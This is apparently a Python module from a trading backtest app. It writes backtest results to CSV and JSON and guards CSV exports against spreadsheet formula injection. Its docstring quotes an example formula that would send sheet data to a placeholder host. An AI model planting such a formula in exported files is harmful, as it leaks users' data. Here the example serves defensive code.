"""Files a trader downloads and opens in a spreadsheet, and a backtest's files (its days, its metrics, all of it).

A text cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel,
LibreOffice and Google Sheets as a formula (`=HYPERLINK("http://x/?"&A1,"click")` in a strategy
name leaks the sheet). Every CSV the app writes goes through `safe_csv`, which prefixes such cells
with `'` (the OWASP rule); numbers are written as numbers, negative ones included.
"""

from __future__ import annotations

import csv
import json

import pandas as pd

from core.backtest.result import METRIC_LABELS, compare_table, plain

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def defuse(value: object) -> object:
    """A text cell a spreadsheet would run as a formula, prefixed with ' so it shows as text; anything else as is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_csv(frame: pd.DataFrame, **to_csv) -> str:
    """The frame as CSV text with every formula-like text cell (and header) defused."""
    safe = frame.rename(columns=defuse)
    for column in safe.columns:
        if safe[column].dtype == object or pd.api.types.is_string_dtype(safe[column]):
            safe[column] = safe[column].map(defuse)
    # Every text cell quoted: a lone carriage return inside one would otherwise end the row.
    return safe.to_csv(**{"index": False, "quoting": csv.QUOTE_NONNUMERIC, **to_csv})


# -- a backtest's files ---------------------------------------------------------------------------

def backtest_daily(result) -> pd.DataFrame:
    """A backtest's days (core.backtest.result.BacktestResult) as a sheet reads them: equity at each close,
    the day's return and the drawdown below the running peak in percent, and each symbol's position at
    the close in percent of equity (short below 0). The first row is the capital before the first day."""
    equity = result.equity
    frame = pd.DataFrame({
        "day": [d.date().isoformat() for d in equity.index],
        "equity ($)": equity.to_numpy().round(2),
        "return (%)": (equity.pct_change().fillna(0.0) * 100).to_numpy().round(4),
        "drawdown (%)": result.drawdown.to_numpy().round(4),
    })
    positions = result.positions.reindex(equity.index).fillna(0.0)
    for symbol in positions.columns:
        frame[f"{symbol} position (% of equity)"] = (positions[symbol] * 100).to_numpy().round(4)
    return frame


def backtest_metrics(results: dict) -> pd.DataFrame:
    """The metrics of backtests side by side, {name: BacktestResult}: a row per metric with its label, a
    column per run (numbers as numbers) and, for two runs, the better one (core.backtest.result.BETTER_RULE)."""
    table = compare_table(results)
    frame = table.reset_index(names="metric")
    frame.insert(1, "label", [METRIC_LABELS.get(m, m) for m in frame["metric"]])
    return frame if len(results) > 1 else frame.drop(columns="better")


def backtest_json(results: dict) -> str:
    """Backtests, {name: BacktestResult}, whole: per run its spec (constraints included), every figure,
    trades, daily equity and positions, and every exchange it decided (day x symbol), as JSON text."""
    runs = {}
    for name, result in results.items():
        days = result.days.astype({"day": str})
        runs[name] = {**result.to_dict(),
                      "spec": result.spec.model_dump(mode="json") if result.spec is not None else None,
                      "exchanges": json.loads(days.to_json(orient="records"))}
    out = {"runs": runs}
    if len(results) > 1:
        table = compare_table(results)
        out["comparison"] = {m: {k: plain(v) for k, v in row.items()} for m, row in table.iterrows()}
    return json.dumps(out, indent=2, default=str)
